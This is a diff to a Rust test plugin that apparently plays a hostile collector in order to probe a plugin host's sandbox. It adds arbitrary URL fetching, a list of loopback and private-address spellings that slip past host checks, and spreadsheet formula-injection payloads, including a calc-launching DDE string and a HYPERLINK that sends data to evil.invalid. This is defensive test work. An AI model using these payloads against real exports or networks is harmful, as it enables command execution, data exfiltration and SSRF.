@@ -6,15 +6,21 @@
 //! `--param attack=…` (or the `HOSTILE_ATTACK` setting, for `run-all`): `env`, `proc`, `read` (the file in `target`),
 //! `write` (a file at `target`), `socket` (TCP to 127.0.0.1:`port`),
 //! `exec`, `grandchild`, `settings`, `redirect` (GET `HOSTILE_BASE_URL` +
-//! `target` with its key), `foreign-rows`, `overflow` (two amounts of its
-//! own whose day sum needs 30 digits), `newer-contract` (records with fields
+//! `target` with its key), `fetch` (GET the URL `target`, with the header
+//! `header`, `Name: value`, if given), `foreign-rows`, `overflow` (two amounts of its
+//! own whose day sum needs 30 digits), `formulas` (a cost line whose every
+//! text is a spreadsheet formula, in the spellings that slip past naive
+//! checks), `newer-contract` (records with fields
 //! of a later contract version), `impersonate` (another provider's display name), `flood` (`count` log lines and
 //! one long line), `leak-days` (its key as a lost day's reason), `huge` (`count` records of 64 KiB), `memory`, `leak`
 //! (logs and returns its own key).
 //!
 //! Its manifest function misbehaves when the bytes after
 //! `HOSTILE-MANIFEST-MODE:` in the file are patched to `segv`, `abort`,
-//! `hang`, `panic` or `noread` (floods requests, never reads answers); its ELF constructor creates the file named by
+//! `hang`, `panic` or `noread` (floods requests, never reads answers), and
+//! declares hosts of this machine when they are patched to `localN` (the
+//! Nth spelling of [`LOCAL_SPELLINGS`]) or `hostname` (the machine's own
+//! host name); its ELF constructor creates the file named by
 //! `HOSTILE_CTOR_MARKER` if that variable is visible to it.
 
 use std::io::{Read, Write};
@@ -32,6 +38,31 @@ fn manifest_mode() -> String {
     // the file, where a test can patch them.
     let bytes: [u8; 32] = unsafe { std::ptr::read_volatile(&MANIFEST_MODE) };
     String::from_utf8_lossy(&bytes[22..]).trim_end_matches('_').to_string()
+}
+
+/// Ways to write this machine or a private network in a manifest's hosts
+/// (`localN` declares the Nth).
+pub const LOCAL_SPELLINGS: [&str; 8] = [
+    "::ffff:7f00:1",
+    "[::ffff:127.0.0.1]",
+    "::ffff:a9fe:a9fe",
+    "::ffff:a00:1",
+    "::127.0.0.1",
+    "localhost.",
+    "127.1",
+    "0.0.0.0",
+];
+
+/// The machine's host name, as `uname` tells it (in the worker too).
+fn host_name() -> String {
+    // SAFETY: a struct of byte arrays, valid when zeroed, that `uname` fills.
+    let mut u: libc::utsname = unsafe { std::mem::zeroed() };
+    // SAFETY: `u` is a valid out-pointer.
+    if unsafe { libc::uname(&mut u) } != 0 {
+        return String::new();
+    }
+    let bytes: Vec<u8> = u.nodename.iter().take_while(|c| **c != 0).map(|c| *c as u8).collect();
+    String::from_utf8_lossy(&bytes).into_owned()
 }
 
 /// Runs when the library is mapped, in whatever process maps it.
@@ -76,10 +107,17 @@ fn manifest() -> Manifest {
         }
         _ => {}
     }
+    let mode = manifest_mode();
+    let hosts = match mode.strip_prefix("local").and_then(|n| n.parse::<usize>().ok()) {
+        Some(n) => vec![LOCAL_SPELLINGS.get(n).copied().unwrap_or("localhost").to_string()],
+        None if mode == "hostname" => vec![host_name()],
+        None => vec![],
+    };
     let param =
         |name: &str| ParamSpec { name: name.into(), description: String::new(), default: None };
     let mut settings: Vec<String> = [
         "HOSTILE_BASE_URL",
+        "HOSTILE_MIRROR_URL",
         "OPENAI_ADMIN_KEY",
         "DISCORD_WEBHOOK_URL",
         "HOSTILE_NOTE",
@@ -95,7 +133,7 @@ fn manifest() -> Manifest {
     .map(String::from)
     .to_vec();
     // Read paths that would reach the home's `.env` and database.
-    let read_paths = match manifest_mode().as_str() {
+    let read_paths = match mode.as_str() {
         "readroot" => vec!["/".to_string()],
         "readhome" => vec!["~/".to_string()],
         "sethome" => {
@@ -112,13 +150,14 @@ fn manifest() -> Manifest {
         // Asks for an admin key and a webhook as if they were plain settings.
         settings,
         requires_one_of: vec![],
-        hosts: vec![],
+        hosts,
         params: vec![
             param("attack"),
             param("target"),
             param("port"),
             param("count"),
             param("secs"),
+            param("header"),
         ],
         daily: true,
         read_paths,
@@ -276,6 +315,17 @@ fn run(ctx: &PluginCtx<'_>, req: RunRequest) -> PluginResult {
             };
             probe(&attack, outcome)
         }
+        "fetch" => {
+            let mut request = HttpRequest::get(&p("target"));
+            if let Some((name, value)) = p("header").split_once(':') {
+                request = request.header(name.trim(), value.trim());
+            }
+            let outcome = match ctx.http(&request) {
+                Ok(r) => format!("HTTP {}: {}", r.status, r.text()),
+                Err(e) => format!("error: {e}"),
+            };
+            probe(&attack, outcome)
+        }
         "newer-contract" => {
             // A collector built against a later contract: fields this host
             // has never heard of, in every record kind.
@@ -299,6 +349,24 @@ fn run(ctx: &PluginCtx<'_>, req: RunRequest) -> PluginResult {
                     Record::new("usage", "", usage.to_string()),
                     Record::new("provider", "", provider.to_string()),
                 ],
+                &RunMetadata::default(),
+            )
+        }
+        "formulas" => {
+            // Each text a spreadsheet opening the export would evaluate;
+            // the amount and quantity are negative numbers, which must stay
+            // numbers.
+            let day = req.from.clone().unwrap_or_default();
+            let payload = serde_json::json!({
+                "provider": "hostile", "account": "@SUM(1+1)*cmd|' /C calc'!A0", "day": day,
+                "project": " =1+1", "api_key": "\t=2+2", "line_item": "-1+1+cmd|' /C calc'!A0",
+                "model": "-0+HYPERLINK(\"http://evil.invalid/?\"&A1,\"open\")",
+                "token_type": "+1", "cost_type": "\r=3", "service_tier": "\n@x",
+                "context_window": "-", "amount": "-1.50", "unit": "major", "currency": "usd",
+                "quantity": "-2", "quantity_unit": "=x",
+            });
+            PluginResult::success(
+                vec![Record::new("cost", "", payload.to_string())],
                 &RunMetadata::default(),
             )
         }
